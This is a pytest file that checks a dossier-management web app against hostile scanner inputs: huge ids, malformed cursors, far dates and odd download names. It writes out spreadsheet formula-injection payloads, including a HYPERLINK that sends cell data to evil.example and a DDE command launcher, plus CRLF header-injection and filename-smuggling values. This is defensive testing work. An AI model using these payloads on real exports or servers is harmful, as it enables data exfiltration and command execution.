"""What outside scanners sent: formulas in names, huge ids, odd cursors, far dates, odd
figure groups, download names outside Latin-1, a huge body. Each a clear answer, no 500."""

from __future__ import annotations

import base64
import csv
import io
import json
from urllib.parse import quote, unquote

import pytest
from builders import dossier_in, officer, org
from conftest import csrf_from
from openpyxl import load_workbook

from dossiers import audit, casework, exports
from dossiers.clock import today
from dossiers.extensions import db
from dossiers.models import DossierState

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "function": "=1+1",
    "country": "+SUM(1+1)",
    "organisation": "=cmd|' /C calc'!A0",
    "email": "@SUM(1)",
}


@pytest.fixture
def hostile(app):
    """A dossier whose person, country and partner service are named like formulas."""
    with app.app_context():
        dossier = dossier_in(DossierState.MEASURES_DECIDED)
        casework.add_new_person(
            dossier,
            name=FORMULAS["name"],
            function=FORMULAS["function"],
            country=FORMULAS["country"],
            actor=officer(),
        )
        org("Police zone").name = FORMULAS["organisation"]
        db.session.commit()
    return today().year


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert_csv(text: str, expected: list[str]) -> None:
    cells = _csv_cells(text)
    for value in expected:
        assert "'" + value in cells, value  # still readable, after an apostrophe
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells


def _assert_text_xlsx(data: bytes, expected: list[str]) -> None:
    cells = _xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    values = {c.value for c in cells}
    for value in expected:
        assert value in values, value  # the very text, as text


def test_formulas_typed_into_names_come_out_as_text_in_every_spreadsheet(app, login, hostile):
    officer_session = login("officer")
    year = hostile
    person_rows = f"/statistics/{year}/figures/tp_persons/rows"
    texts = [FORMULAS["name"], FORMULAS["function"]]
    _assert_inert_csv(officer_session.get(person_rows + ".csv").text, texts)
    _assert_text_xlsx(officer_session.get(person_rows + ".xlsx").data, texts)
    group = quote(FORMULAS["organisation"])
    partner_rows = f"/statistics/{year}/figures/measures_by_partner/rows"
    for suffix in (".csv", ".xlsx"):
        response = officer_session.get(f"{partner_rows}{suffix}?group={group}")
        assert response.status_code == 200
        if suffix == ".csv":
            _assert_inert_csv(response.text, [FORMULAS["organisation"]])
        else:
            _assert_text_xlsx(response.data, [FORMULAS["organisation"]])
    # The report: the partner is a group label of the breakdown by partner.
    report = f"/statistics/{year}/report"
    _assert_inert_csv(officer_session.get(report + ".csv").text, [FORMULAS["organisation"]])
    _assert_text_xlsx(officer_session.get(report + ".xlsx").data, [FORMULAS["organisation"]])


def test_the_audit_trail_csv_is_inert_too(app, login, user):
    admin = login("admin")
    with app.app_context():
        hostile = user("analyst")
        hostile.email = "=1+2@test.example"  # a valid address: its local part may start so
        audit.record("user.login", actor=hostile, object_type="user", object_id=hostile.id)
        db.session.commit()
    cells = _csv_cells(admin.get("/admin/audit.csv").text)
    assert "'=1+2@test.example" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_a_control_character_in_a_name_does_not_break_the_xlsx(app, login):
    with app.app_context():
        dossier = dossier_in(DossierState.MEASURES_DECIDED)
        casework.add_new_person(dossier, name="Bell\x07Name", function="Judge", actor=officer())
        db.session.commit()
    year = today().year
    response = login("officer").get(f"/statistics/{year}/figures/tp_persons/rows.xlsx")
    assert response.status_code == 200
    assert "Bell\ufffdName" in {c.value for c in _xlsx_cells(response.data)}


HUGE_IDS = ["9223372036854775808", "18446744073709551623", "2147483648", "1" * 40]


@pytest.mark.parametrize("number", HUGE_IDS)
def test_ids_beyond_any_row_are_not_found(app, login, number):
    with app.app_context():
        reference = dossier_in(DossierState.MEASURES_DECIDED).reference
    officer_session, admin, partner = login("officer"), login("admin"), login("partner")
    pages = [
        (officer_session, "get", f"/dossiers/{reference}/persons/{number}/edit"),
        (officer_session, "post", f"/dossiers/{reference}/persons/{number}/remove"),
        (officer_session, "post", f"/dossiers/{reference}/measures/{number}/lift"),
        (partner, "get", f"/measures/{number}"),
        (partner, "post", f"/measures/{number}"),
        (admin, "get", f"/admin/users/{number}"),
        (admin, "post", f"/admin/users/{number}/reset-two-factor"),
        (admin, "get", f"/admin/organisations/{number}"),
        (officer_session, "get", f"/statistics/{number}"),
    ]
    for session, method, url in pages:
        assert getattr(session, method)(url).status_code == 404, url


@pytest.mark.parametrize("number", [*HUGE_IDS, "\u00b2", "-1", "1e3"])
def test_ids_in_forms_beyond_any_row_are_refused_with_a_message(app, login, number):
    with app.app_context():
        dossier = dossier_in(DossierState.ASSESSMENT)
        reference, version = dossier.reference, dossier.version
    officer_session = login("officer")
    linked = officer_session.post(f"/dossiers/{reference}/persons/link", data={"person_id": number})
    assert linked.status_code in (302, 404)
    measure = officer_session.post(
        f"/dossiers/{reference}/measures/new",
        data={
            "measure_type_id": number,
            "organisation_id": number,
            "person_id": number,
            "description": "x",
            "start_date": "2024-01-01",
        },
    )
    assert measure.status_code == 200 and "Not a valid choice" in measure.text
    moved = officer_session.post(
        f"/dossiers/{reference}/transition/decide_measures",
        data={"version": number, "seen": number},
    )
    assert moved.status_code in (302, 200)
    audit = login("admin").get(f"/admin/audit?actor_id={number}")
    assert audit.status_code == 200
    with app.app_context():
        assert db.session.get(type(dossier), dossier.id).version >= version


def _cursor(values) -> str:
    return base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")


CURSORS = [
    ["2024-01-01", 5],  # a date key given as a plain string
    [{"d": "2024-01-01"}, 2**64],  # an id no database integer holds
    [{"d": "2024-01-01"}, "five"],  # text where an id goes
    [{"t": "2024-01-01T00:00:00+14:00"}, 1],  # a time where a day goes, with a zone
    [True, None],
    [2**70],
    [{"d": "2024-01-01"}, 2**40],  # beyond a PostgreSQL INTEGER, within a BIGINT
    [{"d": "2024-01-01"}, "\ud800", 1],  # a lone surrogate: no database can bind it
    [{"d": "2024-01-01"}, "a\u0000b", 1],  # a NUL: PostgreSQL refuses it
]


@pytest.mark.parametrize("values", CURSORS)
def test_a_cursor_no_page_gave_shows_the_first_page(app, login, values):
    with app.app_context():
        dossier_in(DossierState.MEASURES_DECIDED)
    cursor = _cursor(values)
    officer_session = login("officer")
    first = officer_session.get("/dossiers/")
    for url in (f"/dossiers/?after={cursor}", f"/dossiers/?before={cursor}"):
        response = officer_session.get(url)
        assert response.status_code == 200
        assert response.text.count("/dossiers/DOS") == first.text.count("/dossiers/DOS")
    assert login("partner").get(f"/measures/?after={cursor}").status_code == 200
    assert login("admin").get(f"/admin/audit?before={cursor}").status_code == 200
    year = today().year
    figure = officer_session.get(f"/statistics/{year}/figures/tp_dossiers?after={cursor}")
    assert figure.status_code == 200


def test_far_dates_get_a_message_next_to_the_field_and_change_nothing(app, login):
    officer_session = login("officer")
    response = officer_session.post(
        "/dossiers/new",
        data={
            "kind": "threatened_person",
            "title": "Far future dossier",
            "opened_on": "9999-12-31",
            "ground": "function",
        },
    )
    assert response.status_code == 200
    assert "Give a date between 01/01/1900 and 31/12/2199." in response.text
    assert "Far future dossier" not in officer_session.get("/dossiers/").text
    year = today().year
    with app.app_context():
        dossier_in(DossierState.MEASURES_DECIDED)
    for url in (
        f"/statistics/{year}?on=9999-12-31",
        f"/statistics/{year}/figures/open_dossiers?on=9999-12-31",
        f"/statistics/{year}/report.csv?on=0001-01-01",
        "/dossiers/?year=99999999999999999999",
    ):
        assert officer_session.get(url).status_code == 200, url
    assert login("admin").get("/admin/audit?since=9999-12-31&until=9999-12-31").status_code == 200


@pytest.mark.parametrize(
    "group", ["99999999999999999999", "\u00b2", "a\nb", "x\r\nSet-Cookie: a=b", "x" * 5000]
)
def test_figure_groups_that_cannot_be_a_group_are_not_found(app, login, group):
    officer_session = login("officer")
    year = today().year
    with app.app_context():
        dossier_in(DossierState.MEASURES_DECIDED)
    key = "tp_by_month" if group[0].isdigit() else "measures_by_partner"
    for suffix in ("", "/rows.csv", "/rows.xlsx"):
        url = f"/statistics/{year}/figures/{key}{suffix}?group={quote(group)}"
        assert officer_session.get(url).status_code == 404, url


def test_download_names_outside_latin1_follow_rfc_6266(app, login):
    with app.app_context():
        dossier_in(DossierState.MEASURES_DECIDED)
        org("Police zone").name = "Police zone Bruxelles \u2013 Nord"
        db.session.commit()
    officer_session = login("officer")
    year = today().year
    group = quote("Police zone Bruxelles \u2013 Nord")
    for suffix in ("csv", "xlsx"):
        url = f"/statistics/{year}/figures/measures_by_partner/rows.{suffix}?group={group}"
        response = officer_session.get(url)
        assert response.status_code == 200
        disposition = response.headers["Content-Disposition"]
        disposition.encode("latin-1")  # a header value HTTP can carry
        plain, exact = disposition.split("; filename*=UTF-8''")
        assert (
            plain == f'attachment; filename="measures_by_partner-{year}-'
            f'Police-zone-Bruxelles-Nord.{suffix}"'
        )
        assert (
            unquote(exact)
            == f"measures_by_partner-{year}-Police zone Bruxelles \u2013 Nord.{suffix}"
        )


def test_a_download_is_named_from_our_own_values_only(app, login):
    with app.app_context():
        dossier_in(DossierState.MEASURES_DECIDED)
    year = today().year
    session = login("officer")
    crafted = quote("x\"; filename*=UTF-8''evil.exe; x=\"")
    longer = quote("y" * 190 + ".hta")
    for group in (crafted, longer):
        url = f"/statistics/{year}/figures/measures_by_partner/rows.csv?group={group}"
        response = session.get(url)
        assert response.status_code == 200  # a group no row has: an empty list
        assert response.text.startswith("reference,date")
        disposition = response.headers["Content-Disposition"]
        assert disposition == (
            f'attachment; filename="measures_by_partner-{year}.csv"; '
            f"filename*=UTF-8''measures_by_partner-{year}.csv"
        )


def test_a_long_name_keeps_its_extension():
    disposition = exports.attachment("Zone \u2013 " * 40 + "x.hta", "xlsx")["Content-Disposition"]
    plain, exact = disposition.split("; filename*=UTF-8''")
    assert plain.endswith('.xlsx"') and unquote(exact).endswith(".xlsx")
    assert ".hta" not in disposition and len(disposition) < 600


def test_a_non_ascii_digit_code_is_a_wrong_code(app, client):
    page = client.get("/login")
    client.post(
        "/login",
        data={
            "email": "officer@test.example",
            "password": "correct horse battery staple",
            "csrf_token": csrf_from(page.text),
        },
    )
    for code in ("\u0661\u0662\u0663\u0664\u0665\u0666", "\u00b2" * 6):
        form = client.get("/login/totp")
        response = client.post(
            "/login/totp", data={"code": code, "csrf_token": csrf_from(form.text)}
        )
        assert response.status_code == 200 and "This code is not valid" in response.text


def test_a_huge_page_number_of_the_user_list(login):
    admin = login("admin")
    assert admin.get("/admin/users?page=99999999999999999999").status_code == 200
    assert admin.get("/admin/users?page=2147483647").status_code == 404
